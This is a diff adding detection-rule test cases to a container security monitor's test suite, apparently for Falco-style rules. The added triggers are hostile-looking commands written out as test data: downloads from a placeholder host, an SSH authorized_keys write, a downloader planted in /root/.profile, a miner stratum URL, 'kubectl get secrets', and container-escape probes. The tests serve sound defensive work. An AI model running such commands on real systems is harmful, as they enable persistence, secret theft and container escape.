@@ -94,6 +94,16 @@ SSH_KEY = (
     "mkdir -p /home/app/.ssh; echo k > /home/app/.ssh/id_rsa; echo p > /home/app/.ssh/id_rsa.pub"
 )
 SHM_EXEC = ("--tmpfs", "/dev/shm:rw,exec")  # Docker's own /dev/shm is noexec: exec would fail
+UNCONFINED = ("--security-opt", "seccomp=unconfined")
+
+
+def renamed(name: str, *args: str, options: tuple[str, ...] = ()) -> Scenario:
+    """cauditd_falco copied to /tmp/NAME and run with ARGS: a process named NAME."""
+    return sh(f"cp /usr/bin/cauditd_falco /tmp/{name} && /tmp/{name} {' '.join(args)}",
+              options=options)
+
+
+CURL_HEAD = renamed("curl", "-s", "-I", f"http://{NOWHERE}/")
 
 CASES: list[Case] = [
     # files.toml
@@ -239,6 +249,74 @@ CASES: list[Case] = [
          sh("echo '* * * * * id' > /tmp/c; /usr/bin/crontab /tmp/c"),
          "proc.cmdline", "crontab /tmp/c",
          sh("/usr/bin/crontab -l"), exec_of("/usr/bin/crontab")),
+    # activity.toml
+    Case("Ingress tool download in container",
+         sh(f"/usr/bin/wget -q -T 1 -O /tmp/p http://{NOWHERE}/p"),
+         "proc.cmdline", f"wget -q -T 1 -O /tmp/p http://{NOWHERE}/p",
+         CURL_HEAD, exec_of("/tmp/curl"), "wget"),
+    Case("Ingress tool download in container",
+         renamed("curl", "-sSLo", "/tmp/p", f"http://{NOWHERE}/p"),
+         "proc.cmdline", f"curl -sSLo /tmp/p http://{NOWHERE}/p",
+         CURL_HEAD, exec_of("/tmp/curl"), "curl"),
+    Case("Directory created below binary dir",
+         sh("/bin/mkdir /usr/bin/.cache"), "fd.name", "/usr/bin/.cache",
+         sh("/bin/mkdir /tmp/.cache"), file_op(("mkdir", "mkdirat"), "/tmp/.cache")),
+    Case("Bulk data destruction in container",
+         sh("echo x > /tmp/f; /usr/bin/shred -u /tmp/f"), "proc.cmdline", "shred -u /tmp/f",
+         sh("echo x > /tmp/f; /bin/rm /tmp/f"), exec_of("/bin/rm")),
+    Case("PTRACE anti-debug attempt",
+         Scenario(("cauditd_attack", "traceme")), "proc.cmdline", "cauditd_attack traceme",
+         PTRACE_ATTACH, syscall("ptrace", request=16)),
+    Case("SSH authorized keys modified",
+         sh("mkdir -p /root/.ssh; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
+         "fd.name", "/root/.ssh/authorized_keys",
+         sh("mkdir -p /root/.ssh; /bin/cp /etc/hostname /root/.ssh/known_hosts"),
+         Opened("/root/.ssh/known_hosts", WRITE,
+                ("/bin/cp", "/etc/hostname", "/root/.ssh/known_hosts"))),
+    Case("Shell configuration file modified in container",
+         sh("echo 'wget -q http://x/p' >> /root/.profile"), "fd.name", "/root/.profile",
+         sh("echo x > /tmp/profile; /bin/cat /tmp/profile"),
+         Opened("/tmp/profile", READ, ("/bin/cat", "/tmp/profile"))),
+    Case("Glibc tunables in environment",
+         sh("GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/sleep 1"), "proc.cmdline", "sleep 1",
+         sh("GLIBC_FOO=1 /bin/sleep 1"), exec_of("/bin/sleep")),
+    Case("Crypto miner stratum command line",
+         sh("/bin/true -o stratum+tcp://pool.example:3333"),
+         "proc.cmdline", "true -o stratum+tcp://pool.example:3333",
+         sh("/bin/true -o tcp://pool.example:3333"),
+         execd("/bin/true", "-o", "tcp://pool.example:3333")),
+    Case("Container client tool launched in container",
+         renamed("kubectl", "get", "secrets"), "proc.cmdline", "kubectl get secrets",
+         renamed("kubelint", "get", "secrets"), exec_of("/tmp/kubelint")),
+    # escape.toml
+    Case("eBPF program loaded in container",
+         Scenario(("cauditd_falco", "bpf-prog"), PRIV), "evt.arg.cmd", "BPF_PROG_LOAD",
+         Scenario(("cauditd_falco", "bpf-map"), PRIV), syscall("bpf", cmd=0)),
+    Case("Unprivileged userfaultfd in container",
+         sh("/usr/bin/cauditd_falco userfaultfd", options=("--user", "65534", *UNCONFINED)),
+         "user.name", "nobody",
+         Scenario(("cauditd_falco", "userfaultfd"), UNCONFINED), syscall("userfaultfd")),
+    Case("Cgroup release_agent written in container",
+         sh("echo /tmp/x > /tmp/release_agent", options=PRIV), "fd.name", "/tmp/release_agent",
+         sh("echo /tmp/x > /tmp/release_agent; /bin/sleep 1"),  # alive: its capabilities known
+         file_op(OPENS, "/tmp/release_agent")),
+    Case("Raw disk or kernel memory opened in container",
+         sh("/bin/cat /dev/sdz", options=("--device", "/dev/null:/dev/sdz")),
+         "fd.name", "/dev/sdz",
+         sh("/bin/cat /dev/null"), Opened("/dev/null", READ, ("/bin/cat", "/dev/null"))),
+    Case("Process executable written through /proc",
+         sh("echo x > /proc/self/exe"), "fd.name", "/proc/self/exe",
+         sh("/bin/cat /proc/self/exe > /dev/null"),
+         Opened("/proc/self/exe", READ, ("/bin/cat", "/proc/self/exe"))),
+    Case("Container started with a sensitive host mount",
+         Scenario(("true",), ("-v", "/etc:/hostetc:ro")), "proc.cmdline", "true",
+         Scenario(("true",), ("-v", "/tmp:/data:ro")), execd("true")),
+    Case("Container started with excessive capabilities",
+         Scenario(("sleep", "1"), PRIV), "proc.cmdline", "sleep 1",
+         Scenario(("sleep", "1")), execd("sleep", "1")),
+    Case("Debugfs launched in container",
+         renamed("debugfs", "spawn", "/bin/true"), "proc.cmdline", "debugfs spawn /bin/true",
+         renamed("fsck", "spawn", "/bin/true"), exec_of("/tmp/fsck")),
 ]  # fmt: skip
 
 
